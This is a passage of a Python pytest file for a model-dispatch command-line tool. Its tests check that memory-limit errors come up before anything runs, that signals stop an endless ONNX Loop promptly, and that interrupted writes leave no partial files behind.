    result = with_little_memory(256 << 20, "dispatch", constant_of_shape_model(tmp_path, 1 << 30), cwd=tmp_path)
    assert_one_line_error(result)
    assert "ONNX outputs 4.0 GiB" in result.stderr and "nothing was run or written" in result.stderr
    assert not (tmp_path / "y.npy").exists()


def loop_model(folder: Path) -> Path:
    """A Loop with no trip count whose condition stays true: ONNX Runtime runs it until it is stopped."""
    _, helper, TensorProto = onnx_modules()
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["v_in"], ["v_out"])],
        "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                 helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                 helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1])])
    nodes = [helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
             helper.make_node("Loop", ["", "cond", "x"], ["y"], body=body)]
    name = onnx_model(folder / "loop.onnx", nodes, [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                      [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    return write_model(folder, {"X": buffer("FLOAT32", [1]), "Y": buffer("FLOAT32", [0])},
                       [{"type": "dispatch", "dispatchable": "loop", "bindings": {"x": "X", "y": "Y"}},
                        {"type": "writeFile", "resource": "Y", "targetPath": "y.bin"}],
                       {"loop": {"type": "onnx", "sourcePath": name}})


def stopped(args, cwd: Path, signal_number: int, started, env=None) -> tuple[int, float, str]:
    """(exit code, seconds from the signal to the exit, stderr) of dmlcli ARGS sent `signal_number` once
    `started(process id, stdout so far)` says it is in the middle of its work."""
    import select
    import signal
    import time

    process = subprocess.Popen([sys.executable, *args], cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               env=env)
    try:
        seen = b""
        deadline = time.monotonic() + HANG_LIMIT
        while not started(process.pid, seen):
            ready, _, _ = select.select([process.stdout], [], [], 0.2)
            if ready:
                seen += os.read(process.stdout.fileno(), 4096)
            assert process.poll() is None and time.monotonic() < deadline, seen
        process.send_signal(signal_number)
        sent = time.monotonic()
        _, stderr = process.communicate(timeout=HANG_LIMIT)
        return process.returncode, time.monotonic() - sent, stderr.decode()
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    del signal


@pytest.mark.parametrize("signal_name,code", [("SIGTERM", 143), ("SIGINT", 130)])
def test_an_onnx_graph_that_never_ends_stops_promptly_on_a_signal(tmp_path, signal_name, code):
    import signal
    import time

    model = loop_model(tmp_path)
    loaded_at: list[float] = []

    def in_the_loop(pid: int, seen: bytes) -> bool:
        # Two seconds after ONNX Runtime's library is mapped, the Loop is running inside it: counted from the start
        # instead, a cold machine's imports can take the two seconds, and the signal then interrupts an import.
        with contextlib.suppress(OSError):  # the process has ended: stopped() says so
            if not loaded_at and "onnxruntime_pybind11_state" in Path(f"/proc/{pid}/maps").read_text():
                loaded_at.append(time.monotonic())
        return bool(loaded_at) and time.monotonic() - loaded_at[0] > 2

    exit_code, seconds, stderr = stopped(["-m", "dmlcli", "dispatch", model], tmp_path, getattr(signal, signal_name),
                                         in_the_loop)
    assert exit_code == code and seconds < 20, (exit_code, seconds, stderr)
    assert stderr.strip() == ("dmlcli: terminated" if code == 143 else "dmlcli: interrupted")
    assert not (tmp_path / "y.bin").exists()


def interrupted_import(module: str, interruption: BaseException):
    """A stand-in for builtins.__import__ under which importing `module` fails as a pybind11 extension's does when a
    signal arrives during its initialisation: ImportError("initialization failed") caused by the signal's exception."""
    import builtins

    real_import = builtins.__import__

    def importing(name, *args, **kwargs):
        if name == module:
            try:
                raise interruption
            except BaseException as cause:
                raise ImportError("initialization failed") from cause
        return real_import(name, *args, **kwargs)

    return importing


@pytest.mark.parametrize("signal_name", ["SIGINT", "SIGTERM"])
def test_a_signal_during_onnx_runtimes_import_is_not_reported_as_a_missing_package(tmp_path, monkeypatch,
                                                                                   signal_name):
    import builtins

    from dmlcli.cli.app import Terminated

    model = loop_model(tmp_path)
    interruption = KeyboardInterrupt() if signal_name == "SIGINT" else Terminated()
    monkeypatch.delitem(sys.modules, "onnxruntime", raising=False)
    monkeypatch.setattr(builtins, "__import__", interrupted_import("onnxruntime", interruption))
    result = CliRunner().invoke(cli, ["dispatch", str(model)])
    expected = (130, "dmlcli: interrupted") if signal_name == "SIGINT" else (143, "dmlcli: terminated")
    assert (result.exit_code, result.stderr.strip()) == expected, result.output
    assert not (tmp_path / "y.bin").exists()


def test_an_import_that_fails_without_a_signal_still_names_the_install_command(monkeypatch):
    import builtins

    from dmlcli.dispatch.onnx import import_runtime
    from dmlcli.errors import BackendUnavailableError

    monkeypatch.delitem(sys.modules, "onnxruntime", raising=False)
    monkeypatch.setattr(builtins, "__import__", interrupted_import("onnxruntime", OSError("libgomp.so.1: missing")))
    with pytest.raises(BackendUnavailableError, match=r"not installed: pip install 'dmlcli\[onnx\]'"):
        import_runtime()


SLOW_WRITE = """
import hashlib, sys
import numpy as np
real_save = np.save

def slow_save(handle, array, **options):
    print("writing", flush=True)
    hashlib.pbkdf2_hmac("sha256", b"x", b"salt", 10 ** 8)  # one C call of minutes that releases the GIL
    real_save(handle, array, **options)

np.save = slow_save
from dmlcli.cli import main
main(sys.argv[1:])
"""


@pytest.mark.parametrize("signal_name,code", [("SIGTERM", 143), ("SIGINT", 130)])
def test_a_long_c_call_does_not_hold_back_a_signal_and_leaves_nothing_half_written(tmp_path, signal_name, code):
    import signal

    (tmp_path / "out.npy").write_bytes(b"old")
    exit_code, seconds, stderr = stopped(["-c", SLOW_WRITE, "run", "bit_not", "[1, 2]", "--dtype", "uint8", "-o",
                                          "out.npy"], tmp_path, getattr(signal, signal_name),
                                         lambda pid, seen: b"writing" in seen)
    assert exit_code == code and seconds < 10, (exit_code, seconds, stderr)
    assert sorted(os.listdir(tmp_path)) == ["out.npy"] and (tmp_path / "out.npy").read_bytes() == b"old"


# ---------------------------------------------------------------- images


def image_model(folder: Path, source: str, size, commands=(), dispatchables=None, name="model.json") -> Path:
    """The image as resource I; with `dispatchables`, an output buffer O of its size too."""
    resources = {"I": {"initialValuesDataType": "FLOAT32", "initialValues": {"sourcePath": source},
                       "resampleSize": list(size)}}
    if dispatchables:
        resources["O"] = buffer("FLOAT32", {"valueCount": math.prod(size), "value": 0})
    return write_model(folder, resources, list(commands), dispatchables, name=name)


@pytest.fixture(scope="module")
def images(tmp_path_factory):
    """A 2048 x 2048 RGBA PNG of noise (16 MB of pixels) and a 1x1 RGB one."""
    image = pytest.importorskip("PIL.Image")
    folder = tmp_path_factory.mktemp("images")
    pixels = np.random.default_rng(0).integers(0, 256, (2048, 2048, 4), dtype=np.uint8)
    image.fromarray(pixels, "RGBA").save(folder / "big.png", compress_level=1)
    image.fromarray(np.zeros((1, 1, 3), np.uint8), "RGB").save(folder / "one.png")
    return folder


@pytest.mark.parametrize("source", ["big.png", "one.png"])
def test_an_image_costs_about_its_tensor_and_its_buffer(images, source):
    # A PNG at the size limit, or a 1x1 image scaled up, took 3.7 GB for a 1 GB tensor (float copies of the
    # whole image beside it); scaled to 2048 x 2048 RGBA, 64 MB: its tensor, the buffer made from it, and the
    # decoded pixels (16 MB).
    tensor = 4 * 2048 * 2048 * 4
    code, peak, stderr = peak_bytes(["dispatch", image_model(images, source, [1, 4, 2048, 2048],
                                                             name=f"{source}.json")], images)
    assert code == 0, stderr
    code, small, stderr = peak_bytes(["dispatch", image_model(images, "one.png", [1, 3, 1, 1], name="tiny.json")],
                                     images)
    assert code == 0, stderr
    assert peak - small < 2 * tensor + 2 * (tensor // 4) + 16 * MiB, (peak - small) / MiB


def test_an_image_is_not_decoded_when_the_model_could_not_run(images):
    # The run's room check (here, an IDENTITY of the image's 16 Mi elements: 2 GiB of temporaries, with 1 GiB
    # available) now comes before the image is decoded.
    desc = {"InputTensor": {"DataType": "FLOAT32", "Sizes": [1, 4, 2048, 2048]},
            "OutputTensor": {"DataType": "FLOAT32", "Sizes": [1, 4, 2048, 2048]}}
    model = image_model(images, "one.png", [1, 4, 2048, 2048],
                        [{"type": "dispatch", "dispatchable": "id", "bindings": {"InputTensor": "I", "OutputTensor": "O"}}],
                        {"id": {"type": "ELEMENT_WISE_IDENTITY", "desc": desc}}, name="dispatch.json")
    script = ("import sys, dmlcli.dispatch.memory as memory, dmlcli.dispatch.model as model; "
              "memory.available_memory = lambda: 1 << 30; model.read_image = None; "  # decoding would fail loudly
              "from dmlcli.cli import main; main(sys.argv[1:])")
    env = dict(os.environ, NO_COLOR="1")
    result = subprocess.run([sys.executable, "-c", script, "dispatch", model], capture_output=True, text=True,
                            cwd=images, timeout=HANG_LIMIT, env=env)
    assert_one_line_error(result)
    assert "the largest dispatch 2.0 GiB" in result.stderr and "nothing was run or written" in result.stderr


def test_a_signal_during_a_models_writes_takes_back_the_files_it_wrote(tmp_path):
    import signal

    model = write_model(tmp_path / "models", {"A": buffer("UINT8", [1, 2, 3, 4])},
                        [{"type": "writeFile", "resource": "A", "targetPath": "new/a.bin"},
                         {"type": "writeFile", "resource": "A", "targetPath": "b.npy"}])
    (tmp_path / "out").mkdir()
    exit_code, seconds, stderr = stopped(["-c", SLOW_WRITE, "dispatch", model, "--output-dir", tmp_path / "out"],
                                         tmp_path, signal.SIGTERM, lambda pid, seen: b"writing" in seen)
    assert exit_code == 143 and seconds < 10, (exit_code, seconds, stderr)
    assert files_under(tmp_path / "out") == set()  # a.bin and its folder taken back, b.npy's temporary removed
